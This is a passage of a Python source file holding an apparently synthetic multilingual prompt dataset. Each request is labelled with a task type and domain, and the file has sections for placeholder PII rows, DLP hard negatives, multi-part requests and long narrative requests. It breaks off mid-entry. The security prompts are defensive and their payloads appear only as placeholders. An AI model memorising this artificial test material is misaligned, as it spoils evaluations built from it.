translate g l p | Translate "Where is the nearest train station?" into Japanese
translate g l p | how do you say "see you next week" in Dutch
translate g l p | Translate to English please: "Ich komme heute etwas später, der Zug hat Verspätung."
chat g l p | hi!
chat g l p | thanks, that was really helpful
chat g l p | good morning, how are you today?
chat g l p | what can you do exactly?
chat g l p | are you a human or a bot
chat g l p | lol ok
chat g l p | Sorry my english is not so good, I hope you understand me anyway
chat g l p | you're the best, have a nice weekend
chat g l p | can you remember what I asked you yesterday?
chat g l p | which model are you?
chat g l p | bye for now
qa g l p | What is the difference between RAM and storage? my laptop has 16GB and 512GB
reasoning g m p | Our weekly all-hands has dropped to 40% attendance. Why might that be, and should we cut it to monthly?
extract g l p | Make a table of product, rating and main complaint from these reviews.{REVIEWS}
"""

FOREIGN = r"""
summarize f l c | Tu peux me résumer ce relevé en deux phrases ? Je veux savoir où part mon argent.{BANKSTMT}
qa l l p | Quelle est la durée du préavis pour démissionner d'un CDI quand on est cadre ?
draft g l p | Rédige un e-mail pour décaler la réunion de jeudi à vendredi 10h, ton cordial mais court.
reasoning f m p | J'hésite entre un PEA et une assurance-vie pour placer 20 000 €. Lequel est le plus adapté sur 10 ans, et pourquoi ?
qa m l p | Est-ce qu'on peut prendre du Doliprane pendant la grossesse ?
math f l p calc | Un article coûte 89 € TTC avec une TVA à 20 %. Quel est le prix HT ?
translate g l p | Traduis en anglais : « Nous avons bien reçu votre commande, elle sera expédiée demain. »
classify s l p | Classe ces alertes par gravité (critique, élevée, moyenne, faible) : connexion admin depuis un pays inhabituel ; certificat TLS qui expire dans 30 jours ; malware détecté sur un poste de la compta ; scan de ports depuis Internet.
creative g l p | Écris un petit poème sur la pluie à Paris pour la carte d'anniversaire d'une collègue.
sentiment g l p | Quel est le ton de ce commentaire client : « Franchement déçu, le colis est arrivé cassé et personne ne répond au téléphone. »
code g l p | Écris une fonction JavaScript qui vérifie si une chaîne est un palindrome, en ignorant les accents.
extract l l c | Extrais les noms, dates et montants de ce courrier : « Madame {P18} reste redevable de la somme de 3 450 € au titre des loyers impayés d'octobre à décembre 2023, à régler avant le 31 janvier 2024. »
chat g l p | Merci beaucoup, bonne journée !
qa s l p | Comment savoir si mon compte Gmail a été piraté ?
summarize m l c => Résume ce compte rendu en trois lignes ;; draft m l c => rédige un SMS au patient pour lui rappeler le contrôle du 14 avril | Résume ce compte rendu en trois lignes et rédige un SMS au patient pour lui rappeler le contrôle du 14 avril.\n\nCompte rendu : M. {P3}, 54 ans, consulte pour douleurs lombaires depuis 3 semaines, sans signe neurologique. Prescription : kinésithérapie 10 séances, paracétamol 1 g si besoin. Contrôle le 14 avril. Tél. {PH7}.
qa f l p | C'est quoi la différence entre le taux nominal et le TAEG d'un crédit ?
qa f l p web | Quel est le taux du livret A en ce moment ?
qa f l p | Wie funktioniert die Abgeltungssteuer auf Zinsen und Dividenden?
draft l l p | Schreib bitte einen Widerspruch gegen den Bescheid meiner Krankenkasse, die die Kostenübernahme für die Physiotherapie abgelehnt hat.
reasoning s m i | Sollen wir für unsere 50 Mitarbeitenden zuerst einen Passwortmanager einführen oder überall MFA aktivieren? Was bringt mehr?
summarize s l c | Fasse das Log kurz zusammen: was ist passiert?{AUTHLOG}
math g l p calc | Wie viel sind 15 % von 2.480?
qa m l p | Was ist bei Fieber besser, Ibuprofen oder Paracetamol?
translate g l p | Übersetze ins Spanische: "Vielen Dank für Ihre schnelle Antwort, wir melden uns nächste Woche."
code g l p | Schreib ein Python-Skript, das alle CSV-Dateien in einem Ordner zu einer Datei zusammenführt.
classify f l p | Ordne die Ausgaben zu (Wohnen, Lebensmittel, Freizeit): Netflix, REWE, Kaltmiete, Fitnessstudio, Aldi, Nebenkosten
creative g l p | Schreib einen kurzen Reim für die Weihnachtsfeier im Büro, gern ein bisschen albern.
sentiment f l p | Wie ist die Stimmung in diesem Kommentar zu den Quartalszahlen: "Schon wieder eine Gewinnwarnung. Ich verkaufe."
extract m l c | Liste alle Medikamente mit Dosierung aus dem Arztbrief auf: "Frau {P13} erhält Ramipril 5 mg 1-0-0, Metoprolol 47,5 mg 1-0-1 und ASS 100 mg 0-1-0."
chat g l p | Hallo, kannst du auch Deutsch?
qa l l p | Darf mein Arbeitgeber meine privaten E-Mails auf dem Firmenlaptop lesen?
draft f l c => Formuliere eine freundliche Zahlungserinnerung an Herrn {P5} ;; math f l p calc => rechne aus, wie viel Verzugszinsen bei 9 % über 45 Tage auf 2.300 € anfallen | Formuliere eine freundliche Zahlungserinnerung an Herrn {P5} ({EM2}) und rechne aus, wie viel Verzugszinsen bei 9 % über 45 Tage auf 2.300 € anfallen.
qa s l p | Was ist Phishing über QR-Codes und wie erkenne ich das?
qa f l p | ¿Qué es la TAE y por qué no coincide con el TIN?
draft g l p | Escríbeme un correo para pedirle a mi jefa el viernes libre, que tengo una boda.
reasoning m m p | Mi hijo de 6 años tiene 38,5 de fiebre desde ayer pero juega normal. ¿Lo llevo a urgencias o espero?
summarize l l p | Resume esta cláusula en lenguaje sencillo: "El arrendatario no podrá subarrendar total ni parcialmente la vivienda sin el consentimiento expreso y por escrito del arrendador."
math f l p calc | Si gano 2.100 € netos y pago 780 de alquiler, ¿qué porcentaje de mi sueldo se va en alquiler?
translate m l p | Traduce al inglés: "Tomar una pastilla cada ocho horas durante cinco días, siempre con comida."
code g l p | ¿Cómo hago una consulta SQL que devuelva los 5 productos más vendidos del mes?
classify g l p | Clasifica estos comentarios como queja, sugerencia o elogio: "la app va lentísima", "estaría bien poder pagar con Bizum", "¡el nuevo diseño me encanta!"
sentiment g l p | ¿Este mensaje suena enfadado? "Llevo tres semanas esperando una respuesta. Increíble."
creative g l p | Escribe un eslogan para una panadería artesanal de Sevilla.
qa s l p | ¿Qué es el smishing y cómo lo reconozco?
extract f l r | Saca el IBAN, el importe y la fecha de este mensaje: "Por favor, transfiera 1.250,00 € a la cuenta {IBAN_ES} antes del 15 de marzo. Un saludo, {P12}"
chat g l p | ¡Hola! ¿Qué tal?
draft s l p | Redacta un aviso para la plantilla: no reutilicéis la contraseña del correo corporativo en otras webs.
reasoning l m p => ¿Me pueden despedir por estar de baja médica? ;; draft l l p => escríbeme un correo a RRHH pidiendo la carta de despido por escrito | Llevo un mes de baja por ansiedad y mi jefe dice que me van a despedir. ¿Me pueden despedir por estar de baja médica? Y escríbeme un correo a RRHH pidiendo la carta de despido por escrito.
qa f l p | O que é o IRS Jovem e quem pode pedir?
draft l l p | Escreve uma carta à operadora a rescindir o contrato de internet por incumprimento: estou sem serviço há 3 semanas.
reasoning f m p | Vale mais a pena amortizar o crédito habitação ou pôr 10 mil euros num PPR? Tenho 38 anos.
summarize g l i | Resume esta ata em três pontos, por favor.{MINUTES}
math g l p calc | Quanto é 3/8 de 1.200?
qa m l p | Quais são os sintomas da dengue e quando devo ir ao hospital?
translate g l p | Traduz para inglês: "A reunião foi adiada para a próxima semana por causa das férias."
code g l p | Escreve uma função em Python para contar quantas vezes aparece cada palavra num texto.
classify m l p | Classifica estes sintomas como urgentes ou não urgentes: dor no peito, tosse há 2 dias, falta de ar súbita, dor de cabeça ligeira
sentiment g l p | Qual é o sentimento desta avaliação: "O hotel era lindo, mas o pequeno-almoço deixou muito a desejar."
creative g l p | Escreve um pequeno poema sobre saudade para o aniversário do meu avô.
extract s l c | Extrai os endereços IP e as horas deste registo: "03:12 bloqueado {IP4}; 03:15 bloqueado {IP8}; 03:40 permitido {IP3}"
chat g l p | Obrigado! Ajudaste muito.
qa s l p | Como ativo a verificação em dois passos no WhatsApp?
extract f l r => Confirma os dados bancários ;; draft f l r => escreve a resposta à {P20} a dizer que o reembolso segue amanhã | Confirma os dados bancários e escreve a resposta à {P20} a dizer que o reembolso segue amanhã: "Olá, o meu IBAN é {IBAN_PT}, titular {P20}, telemóvel {PH10}. Obrigada!"
qa l l p | Quanti giorni di ferie mi spettano per legge in Italia?
draft f l p | Scrivi una mail alla banca per contestare un addebito di 89,90 € sulla carta che non riconosco.
reasoning g m p | Meglio fare la festa aziendale al ristorante o in ufficio con catering? Siamo 60, budget limitato.
summarize m l p | Riassumi questo studio in tre frasi.{ABSTRACT}
math f l p calc | Ho un mutuo di 150.000 € al 3,5% per 25 anni. Quanto pago al mese?
translate l l p | Traduci in inglese: "Il contratto si rinnova tacitamente salvo disdetta da inviare con raccomandata almeno 60 giorni prima della scadenza."
code g l p | Scrivi una query SQL per trovare i clienti che non ordinano da più di 6 mesi.
classify s l p | Quali di queste password sono deboli? "Estate2024!", "qwerty123", "t7#Lp!9zQw@2", "marco1985"
sentiment g l p | Che tono ha questa recensione? "Servizio lento, ma la pizza era davvero ottima."
creative g l p | Inventa tre nomi per una gelateria in riva al mare.
extract m l c | Estrai farmaci e date dei controlli: "Paziente {P17}, dimesso il 12/05. Terapia: bisoprololo 2,5 mg al mattino, furosemide 25 mg a giorni alterni. Controllo cardiologico il 02/06, esami del sangue il 26/05."
qa m l p | La tachipirina si può dare ai neonati sotto i 3 mesi?
chat g l p | Ciao! parli italiano?
qa s l p | Che cos'è un attacco ransomware e come si diffonde?
sentiment l l c => Che tono ha questa lettera ;; reasoning l m c => secondo te conviene rispondere subito o aspettare l'avvocato? | Che tono ha questa lettera, e secondo te conviene rispondere subito o aspettare l'avvocato?{LAWYERLETTER}
qa f l p | Hoe werkt de hypotheekrenteaftrek in Nederland?
draft g l p | Schrijf een korte mail aan het team dat de borrel van vrijdag naar 17:00 is verplaatst.
reasoning l m p | Mijn werkgever wil mijn tijdelijke contract niet verlengen nadat ik zwanger werd. Mag dat zomaar? Wat zijn mijn opties?
summarize s l p | Vat dit beveiligingsadvies samen in twee zinnen.{CVE}
math g l p calc | Wat is 7,5% van 860?
qa m l p | Wat zijn de meest voorkomende bijwerkingen van metformine?
translate f l p | Vertaal naar het Engels: "De factuur dient binnen 30 dagen na ontvangst te worden voldaan."
code g l p | Schrijf een Python-functie die controleert of een e-mailadres geldig lijkt.
classify f l p | Zakelijk of privé? laptop voor werk, boodschappen, treinkaartje naar klant, Netflix, cursus Excel
sentiment s l p | Hoe boos klinkt deze klant? "Mijn account is gehackt en jullie doen NIETS. Ik wil mijn geld terug."
creative g l p | Schrijf een grappig Sinterklaasgedichtje over een collega die altijd te laat komt.
extract g l c | Haal naam, telefoonnummer en e-mail uit dit bericht: "Hoi, ik ben {P7}, bel me op {PH12} of mail naar {EM5}."
chat g l p | Dank je wel!
qa s l p | Wat is een VPN en heb ik die nodig op openbare wifi?
translate l l p => Vertaal dit artikel uit het huurcontract naar het Engels ;; qa l l p => leg uit wat 'opzegtermijn' betekent | Vertaal dit artikel uit het huurcontract naar het Engels en leg uit wat 'opzegtermijn' betekent: "De huurder kan de overeenkomst opzeggen met inachtneming van een opzegtermijn van één maand."
classify m l c | Classe ces notes d'infirmière par priorité (haute, moyenne, basse) : « chambre 12 : douleur 8/10 malgré morphine » ; « chambre 4 : demande un oreiller » ; « chambre 9 : saturation 88 % » ; « chambre 2 : repas non pris »
translate f l p | Traduza para francês: "O pagamento será feito em três prestações mensais."
translate s l p | Übersetze ins Englische: "Ihr Passwort läuft in 3 Tagen ab. Bitte ändern Sie es über das Self-Service-Portal."
"""

PII_ROWS = r"""
draft f l r | Please write a short mail to the customer that the refund to card {CARD1} was processed today, 3-5 days to appear.
extract f l r | pull card number, expiry and name: "Card holder {P9}, card {CARD2}, exp 09/27, billing tel {PH4}"
classify s l r | Someone pasted {CARD4} in the public Slack channel #general. Is this a real card number? answer yes/no and the card brand.
qa f l r | My Amex {CARD3} was charged twice for the same hotel night. What happens now, does the bank refund automatically?
draft f l r | Write the vendor-onboarding confirmation: supplier Orra Foods B.V., bank account {IBAN_NL}, payment terms 45 days.
extract f l r | Which countries are these accounts from? {IBAN_DE} / {IBAN_IT} / {IBAN_BE} / {IBAN_CH}
math f l r calc | We pay 3 freelancers: 2,400 to {IBAN_GB}, 1,850 to {IBAN_IE} and 3,120 to {IBAN_AT}. Total payout, and how much is each share in %?
draft f l r | hi pls write a reply to the landlord that I paid deposit 1 900 EUR from my account {IBAN_PL} on 2 of May, he says he didnt receive it
qa f l r | is {IBAN_NO} a Norwegian account? its much shorter than my German one
reasoning s m r | An employee's SSN {SSN1} was in a spreadsheet emailed to a wrong external address. What must we do now, step by step?
extract f l r | Fill a JSON with name, SSN and employer from this W-2 note: "{P16}, SSN {SSN2}, employer Brightline Logistics Inc."
draft l l r | Write to the credit bureau that someone opened a loan using my social security number {SSN3} — I want a fraud alert.
classify f l r | Is this a tax id or something else? "{SSN4}" — it's on the form next to "taxpayer ID"
extract l l r | From this tenancy form get the NRIC, name and unit: "Tenant: {P9}, NRIC {NRIC1}, unit #12-04, lease from 1 Jul 2024"
draft f l r | Draft a message to HR: my NRIC on the payslip is wrong, it should be {NRIC2}, please update CPF records.
qa s l r | Clinic asked for my NRIC {NRIC3} by WhatsApp to book a vaccination. Is that normal or suspicious?
summarize m l r | Summarise the patient record in 2 lines: "Name {P10}, NRIC {NRIC4}, DOB 11-03-1987, T2 diabetes since 2019, HbA1c 8.1%, started on empagliflozin 10 mg, next review 3 months."
extract s l c | Give me every IP in this firewall output as a list: "DENY tcp {IP1}:44321 -> {IP2}:3389; DENY udp {IP9}:5353 -> ff02::fb:5353; ALLOW tcp {IP11}:51544 -> {IP10}:443"
reasoning s m c | Same user logged in from {IP5} and 6 minutes later from {IP6}. Impossible travel or VPN? How would you tell?
qa g l c | What is the difference between {IP7} and {IP3}? Both are on my laptop network settings.
draft s l c | Write a note to the hosting provider's abuse team: {IP4} is brute-forcing our SSH since 02:00 UTC, logs attached, please act.
extract g l c | make a contact list (name, email, phone) from the signature block: "{P2} | Head of Payroll | {EM10} | {PH6}"
draft g l c | Reply to {P11} ({EM13}, {PH2}) to confirm her interview on Tuesday at 10:00, Zoom link to follow.
classify g l c | Tag each contact with their country by phone: {PH1}, {PH9}, {PH11}, {PH13}, {PH14}
draft g l c | Pls write polite text to {P1} (cel {PH10}) that the van will be one hour late tomorrow
extract f l c | Get the email and phone of the sender so I can add him to the CRM: "Regards, {P10}, Finance Manager, {EM12}, {PH13}"
sentiment g l c | How annoyed is {P4}? "Third time I write to {EM4} and no one answers. If not fixed by Friday I escalate to your director."
qa l l c | {P6} from the law firm ({EM6}) wants my passport copy by email. Is it GDPR-compliant to send it like that?
draft f l r | Write a payment instruction for treasury: EUR 12,480.00 to {IBAN_FR}, beneficiary {P4}, reference invoice FR-2291.
reasoning f m r | Customer says card {CARD5} was declined 3 times at checkout but money left his account. Bank error or our gateway? How to investigate?
draft f l r => Write a refund confirmation to {P19} ;; extract f l r => list the last 4 digits of each card he used | Write a refund confirmation to {P19} for the two orders, and list the last 4 digits of each card he used: {CARD6} for the first order, {CARD7} for the second, {CARD8} for the third.
"""

HARD_NEGATIVES = r"""
!qa g l p | Ticket INC0091127 and change CHG0044310 - which one is the incident and which is the change request?
!extract f l i | Invoice INV-2025-04417, dated 14.02.2025, net 3.480,00 EUR, VAT 661,20, due 16.03.2025. Give me due date and gross amount.
!math f l p calc | Order #40071988 was 1,284.60 and order #40071989 was 973.15. Total and difference?
!summarize g l p | One line please: release 4.2.0.17 adds the export, 4.2.0.18 fixes the timezone bug, build 20250301.3 rolled back.
!qa s l p | Our firewall runs 7.2.5.1 build 1517. Is that older or newer than 7.2.4.8?
!classify f l p | Is {BADCARD1} a real card number or just a reference? it comes from a purchase order printout.
!reasoning f m p | Supplier sent new bank details {BADIBAN1} but our ERP rejects it. Typo or fraud signal? How would you verify?
!qa f l p | Why does {BADIBAN2} fail validation? is the check digit wrong?
!code g l p | regex to match version strings like 4.2.0.17 or 11.0.4-h1 in release notes
!classify g l p | Which are tracking numbers and which are order ids? 1Z84X0E30491527461, ORD-2025-000817, 7734-0091-2231
!extract l l p | Extract case numbers and hearing dates: "Claim HC-2025-000412 listed 21.05.2025; appeal CA/2024/1988 listed 03.09.2025"
!qa m l p | Lot 25A113-07 of the vaccine expires 2025-08-31. Still usable on 30/08/2025?
!math m l p calc | Batch 5521-7730-1184-2209 had 1,600 vials and 2.5% failed QC. How many passed?
!qa f l p | The statement shows reference {BADCARD2} next to a refund. Is that my card number??
!extract f l p | amounts and dates please: "USD 2,410,007.55 settled 2025-01-31; EUR 96.300,00 settled 04/02/2025; GBP 18,000 pending"
!draft g l p | Note to facilities: server SN-7741-0092-3318 goes back to the vendor on 2025-04-29 under RMA 77120.
!classify s l p | Case ref {BADNRIC1} fails the NRIC check letter. Is it an NRIC or an internal case id?
!math g l p calc | Build 20250402.7 took 41m 20s and build 20250402.8 took 33m 05s. How much faster in percent?
!qa f l p | The gift voucher has serial {BADCARD3} printed on it. Is it a Visa number?
!extract f l p | Field says IBAN {BADIBAN3} and checksum is failing - extract country code and bank code anyway.
!summarize l l p | Summarise: contract v2.3.1 replaces v2.2.9 from 01/07/2025; annex 4.1.2.3 is deleted; fee table unchanged.
!code s l p | Python check that rejects 16-digit strings failing Luhn, so order ids like {BADCARD4} stop triggering the DLP.
!translate g l p | Traduce al inglés: "El pedido nº 2025-118834 se entregará el 12/06/2025; factura F-77120 por 1.248,50 €."
!qa g l p | Waarom heeft versie 3.14.159.2 een vierde nummer? Wat betekent dat build-getal?
!extract f l p | Rechnung RE-2025-0419 vom 03.03.2025 über 12.450,00 € - extrahiere Rechnungsnummer, Datum und Betrag.
!reasoning f m p | Client pasted {BADIBAN4} for the refund and the bank app says invalid. Ask them again or try to correct it ourselves?
!classify g l p | sort these by type (invoice, PO, ticket, version): PO 4500993321, INV-88213, JIRA-4471, v10.0.19045.4412
!qa f l p | Dans l'IBAN {BADIBAN5}, pourquoi la clé de contrôle est refusée ? Il vient d'une vieille facture.
!extract g l p | Pull the ISBN and the price: "ISBN 978-3-16-148410-0, 24,90 EUR, 2. Auflage 2021"
!math f l p calc | Invoice 2025-0077 is 18.400 EUR and invoice 2025-0078 is 6.950 EUR. With 2% early payment discount, how much do we pay?
!qa g l p | What do the numbers in Windows build 10.0.22631.3447 mean?
!summarize s l p | TL;DR: Patch Tuesday 2025-06-10 fixes CVE-2025-33053 and CVE-2025-33073; KB5060842 for 24H2, KB5060999 for 23H2.
"""

MULTI = r"""
summarize f l i => Summarise the budget in three bullets ;; math f l i calc => calculate what the total would be without the licence increase | Summarise the budget in three bullets and calculate what the total would be without the licence increase.{BUDGET}
reasoning f m i => Is cutting contractors by 42% realistic if the hires slip? ;; draft f l i => Write two sentences I can say to the CFO about it. | Is cutting contractors by 42% realistic if the hires slip? Write two sentences I can say to the CFO about it.{BUDGET}
classify f l c => categorise each line as groceries, bills, transport, income or cash ;; math f l c calc => total the outgoing money | categorise each line as groceries, bills, transport, income or cash, then total the outgoing money{BANKSTMT}
translate f l c => translate these bank lines into English ;; summarize f l c => say in one sentence what the month looked like | Please translate these bank lines into English and say in one sentence what the month looked like.{BANKSTMT}
qa f l p => how does a bridge loan work ;; reasoning f m p => is it a bad idea if our new flat closes 2 months before the old one sells | how does a bridge loan work, and is it a bad idea if our new flat closes 2 months before the old one sells?
extract f l c => List what was damaged and the amounts ;; qa f l p => tell me if "alternative accommodation" is normally covered by home insurance ;; draft f l c => draft the acknowledgement to the policyholder | List what was damaged and the amounts, tell me if "alternative accommodation" is normally covered by home insurance, and draft the acknowledgement to the policyholder.{CLAIM}
math g l p calc => whats 15% tip on 86.40 ;; math g l p calc => split it by 4 | whats 15% tip on 86.40 and then split it by 4 pls
code f l p => write a python function for the loan payment formula ;; math f l p calc => what is the payment for 18,000 over 4 years at 7.9% | write a python function for the loan payment formula, and what is the payment for 18,000 over 4 years at 7.9%?
sentiment f l p => How do these shareholders feel ;; summarize f l p => give me the main complaint in one line | How do these shareholders feel, and give me the main complaint in one line: "Dividend cut again while the CEO got a 30% raise." / "Disappointing, but the strategy makes sense long term." / "I've lost patience with this board."
qa f l p retr => What's our hotel cap for Paris ;; math f l p calc => how much over am I if I paid 214 a night for 3 nights | What's our hotel cap for Paris, and how much over am I if I paid 214 a night for 3 nights?
draft f l i => draft the reminder to teams about the 30-day claim deadline ;; creative g l p => add a funny subject line | draft the reminder to teams about the 30-day claim deadline and add a funny subject line{POLICY}
summarize l l i => Summarise the NDA for the sales team ;; reasoning l m i => is the 24-month non-solicit normal? ;; draft l m i => suggest a softer wording | Summarise the NDA for the sales team. Also: is the 24-month non-solicit normal? If not, suggest a softer wording.{NDA}
classify l l p => tag each clause as customer-friendly or provider-friendly ;; translate l l p => translate 7.2 into Spanish | tag each clause as customer-friendly or provider-friendly, and translate 7.2 into Spanish{TERMS}
extract l l c => Extract the claim amount and deadline ;; reasoning l m c => tell me our options ;; draft l m c => draft a holding reply | Extract the claim amount and deadline, tell me our options, and draft a holding reply.{LAWYERLETTER}
qa l l p => What is "repudiatory breach"? ;; qa l l p => Does it mean they can end the contract? | What is "repudiatory breach"? Does it mean they can end the contract?
draft l l c => Write his appeal letter against the warning ;; extract l l c => list the dates he is accused of | Write his appeal letter against the warning and list the dates he is accused of.{WARNING}
qa l l p => can a company refuse a DSAR ;; draft l l c => draft the acknowledgement to her ;; extract l l c => pull out exactly what she asks for | can a company refuse a DSAR? draft the acknowledgement to her and pull out exactly what she asks for{DSAR}
reasoning l m p => Should we sign an NDA before the first call with a possible partner or is it overkill? ;; draft l l p => If yes, write a one-paragraph email proposing it. | Should we sign an NDA before the first call with a possible partner or is it overkill? If yes, write a one-paragraph email proposing it.
code l l p => write a script that finds every date in a contract PDF text ;; classify l l p => classify these as deadline or effective date | I need two things: write a script that finds every date in a contract PDF text, and classify these as deadline or effective date: 'payment within 30 days of invoice', 'effective from 1 July 2025', 'notice no later than 31 March'.
summarize m l c => summarise the discharge ;; classify m l c => mark each follow-up as urgent or routine ;; draft m l c => write the patient a friendly reminder text | summarise the discharge, mark each follow-up as urgent or routine, and write the patient a friendly reminder text{DISCHARGE}
extract m l c => list the meds ;; qa m l p => explain what atorvastatin is for ;; translate m l c => translate the list into Portuguese for his mother | list the meds, explain what atorvastatin is for, and translate the list into Portuguese for his mother{RX}
sentiment m l p => Overall sentiment? ;; classify m l p => Tag each comment as staff, waiting, access or communication ;; draft m l p => Draft a reply to the parking complaint | Overall sentiment? Tag each comment as staff, waiting, access or communication. Draft a reply to the parking complaint.{PATFB}
summarize m l p => summarise the study ;; reasoning m m p => say if 6 mmHg is clinically meaningful ;; math m l p calc => compute the drop in adherence in percentage points | summarise the study, say if 6 mmHg is clinically meaningful, and compute the drop in adherence in percentage points{ABSTRACT}
qa m l p => what's a normal resting heart rate ;; reasoning m m p => mine is 52, should I worry? I run 3 times a week | what's a normal resting heart rate? mine is 52, should I worry? I run 3 times a week
math m l p calc => Convert 38.9°C to Fahrenheit ;; qa m l p => is that a high fever for an adult? | Convert 38.9°C to Fahrenheit and is that a high fever for an adult?
draft g l p => write a sick note email to my manager ;; chat g l p => thanks in advance, you're a life saver | write a sick note email to my manager, I have migraine and will be back Thursday. thanks in advance, you're a life saver
extract s l c => Extract the attacker IP and the time window ;; classify s l c => classify the requests by attack type ;; draft s l i => draft the block request for the network team | Extract the attacker IP and the time window, classify the requests by attack type, and draft the block request for the network team.{WEBLOG}
summarize s l i => summarise the incident ;; reasoning s m i => what should we change so this doesn't happen again ;; draft s l i => write the all-staff reminder about MFA push approvals | summarise the incident, what should we change so this doesn't happen again, and write the all-staff reminder about MFA push approvals{INCIDENT}
classify s l c => Is it phishing? ;; extract s l c => Pull out the sender domain and the link ;; translate s l c => translate it to German for our Munich office training | Is it phishing? Pull out the sender domain and the link, then translate it to German for our Munich office training.{PHISH}
code s l i => fix the SQL injection ;; qa s l p => explain why prepared statements prevent it | fix the SQL injection and explain why prepared statements prevent it{SQLINJ}
reasoning s m p => Do we need to patch this tonight? ;; draft s l i => Write the change request. | We run Lattice CMS 3.4.1 on the public website. Do we need to patch this tonight? Write the change request.{CVE}
qa s l p => What is credential stuffing ;; classify s l c => does this log look like it | What is credential stuffing, and does this log look like it?{AUTHLOG}
math s l p calc => how many possible 6-digit OTP codes are there ;; reasoning s m p => why is 5 attempts before lockout enough | how many possible 6-digit OTP codes are there, and why is 5 attempts before lockout enough?
code g l p => Fix the bug ;; code g l p => add a docstring | Fix the bug and add a docstring.{PYBUG}
code g l p => explain what debounce does here ;; code g l p => rewrite it in TypeScript with types | explain what debounce does here, then rewrite it in TypeScript with types{JSCODE}
classify g l p => Classify the tickets ;; draft g l p => write a reply to T-3 ;; math g l p calc => what % are bugs | Classify the tickets, write a reply to T-3, and tell me what % are bugs.{TICKETS}
extract g l i => who owns what ;; draft g l i => draft the follow-up email with these actions | who owns what? then draft the follow-up email with these actions{MINUTES}
sentiment g l p => sentiment per review ;; summarize g l p => one line summary for the product team ;; creative g l p => a catchy tagline based on the best review | sentiment per review + one line summary for the product team + a catchy tagline based on the best review{REVIEWS}
chat g l p => Hi! ;; qa g l p => quick one: how many ounces in a cup? | Hi! quick one: how many ounces in a cup?
translate g l p => Translate to Italian ;; draft g l p => make the English version a bit warmer | Translate to Italian and make the English version a bit warmer: "Your table is booked for 8 pm. Please let us know if you are late."
creative g l p => write a short poem for my colleague's farewell card ;; creative g l p => a short speech, 1 minute | Two favors: write a short poem for my colleague's farewell card (she loves hiking and bad puns), and a short speech, 1 minute, that I can say at the drinks.
reasoning g m p => Which one should I buy, a MacBook Air or a ThinkPad, for data analysis in Python? ;; qa g l p web => What are the current prices? | Which one should I buy, a MacBook Air or a ThinkPad, for data analysis in Python? What are the current prices?
summarize g l p => summarise ;; sentiment g l p => is the author positive or negative about hybrid work | summarise and is the author positive or negative about hybrid work?{ARTICLE}
qa f l p => How does compound interest differ from simple interest? ;; creative g l p => Then a tiny rhyme to help kids remember it. | How does compound interest differ from simple interest? Then a tiny rhyme to help kids remember it.
extract g l i => list the blockers ;; classify g l i => label each as needs-help or just-info ;; chat g l p => thanks!! | list the blockers, label each as needs-help or just-info. thanks!!{STANDUP}
"""

# long multi-paragraph requests: the situation first, the ask(s) at the end
_LONG = {
    "L01": """Hello, I need some advice about money because I am little bit lost. I came to Germany two years ago from Brazil to work in a logistics company. My net salary is 2.900 euro per month and my rent is 1.050 euro warm. Until now I saved 11.000 euro in my normal bank account, which gives zero interest.

My colleagues tell me different things. One say I should put everything in an ETF on the MSCI World, another one say first I need emergency money for six months, and my brother in Brazil wants that I send money home for an apartment there, because the interest in Brazil is very high.

I don't want to lose money, but I also understand that keeping it in the bank is losing against inflation. I plan to stay in Germany at least five more years, maybe forever, I don't know yet.

Can you tell me how I should think about splitting this money between emergency fund, ETF and maybe Brazil? And how much is six months of my rent plus a basic 900 euro living cost, so I know the emergency number?""",
    "L02": """Hi, I'm writing on behalf of my sister who doesn't speak English well. She works as a cleaner for a hotel chain in Dublin since 2021, on a contract of 30 hours per week. Last month the manager told her verbally that from now on she will have only 15 hours, because the hotel is quieter in winter. Nothing was written down, she only got the new rota on WhatsApp.

She cannot pay her rent with 15 hours. She also heard that two other cleaners kept their full hours, so she feels it is maybe unfair treatment, but she is not sure and she is afraid to lose the job completely if she complains.

She has her contract and all payslips. She never had a warning or any problem with her work.

Can the employer reduce contract hours like this without her agreement? And please write a short, polite letter she can give to HR asking for the reason in writing and for her hours to be restored.""",
    "L03": """My mother is 74 and lives alone. Since around three weeks she is more tired than usual, she sleeps in the afternoon which she never did before, and she says her legs feel heavy. Yesterday on the phone she also told me she gets out of breath going up the stairs to the bedroom and has to stop halfway. Her ankles looked a bit swollen when I visited on Sunday, but I thought it was the heat.

She takes tablets for blood pressure (amlodipine, I think 10 mg) and something for cholesterol. She had a small heart attack eight years ago but has been fine since. She does not want to "bother the doctor" and says it's just age.

I live two hours away and can't be there every day. I don't want to panic, but I also don't want to miss something important. What could these symptoms point to, and how urgently should she be seen - GP this week or emergency now?""",
    "L04": """Good morning. I am the office manager in a small architecture studio in Porto, 12 persons. We don't have an IT department, my nephew helps us sometimes. This morning our accountant received an email that looked exactly like our usual printer supplier, with an invoice in a ZIP file. She opened it, and she also entered her Microsoft password in a page that opened, because it asked to "see the invoice". After that nothing strange happened, the computer works normal.

One hour later two clients called asking about a strange email from our accountant with a link to a "shared project". So I think somebody is now sending emails from her account.

I changed nothing yet because I am afraid to make it worse. What should I do first, in which order, in the next hour? Also please write me a short email that I can send to all our clients to tell them not to open the link, without sounding like we are a big mess.""",
    "L05": """My best friend from university is getting married in June and I am her maid of honour. The problem: I am terrible at public speaking and English is my second language (I'm Polish, the wedding is in Manchester, and most guests are British).

We met eleven years ago in a student kitchen in Kraków when she set off the fire alarm making pancakes at 3 am. Since then she has moved countries twice, changed career from nursing to UX design, and finally met her husband on a rainy hiking trip in the Lake District, where they were the only two people stubborn enough to continue to the top.

I want something funny but warm, around three minutes, not too many inside jokes, and please simple words so I don't trip on the pronunciation. Can you write the speech for me? Maybe it can end with a small toast to both of them.""",
    "L06": """We are a family business (furniture restoration, 6 employees) and until now my father did all the bookkeeping in an Excel file. He is retiring in autumn and I have to take it over, but I have no accounting background. Our accountant does the annual accounts and the VAT returns, we only prepare the monthly data for her.

I'm looking at three options: keep the Excel but clean it up, move to a cloud accounting tool like Xero or Lexoffice (around 30-50 per month), or ask the accountant to do the bookkeeping too, which she quoted at 380 per month.

Our turnover is about 540k per year, around 60 invoices out and 120 bills in per month. I'm reasonably good with computers but I don't want to spend my evenings on this.

What would you recommend and why? And what does the accountant option cost us per year compared with the most expensive software plan?""",
    "L07": """Bonjour,

Je travaille dans une PME lyonnaise de 80 personnes et je viens d'être nommée référente RGPD, sans vraiment de formation. Notre service commercial utilise un fichier Excel partagé avec les coordonnées de tous les prospects (noms, téléphones, parfois des notes personnelles du genre « divorcé, a deux enfants »). Le fichier est sur un Drive accessible à toute l'entreprise, y compris les stagiaires.

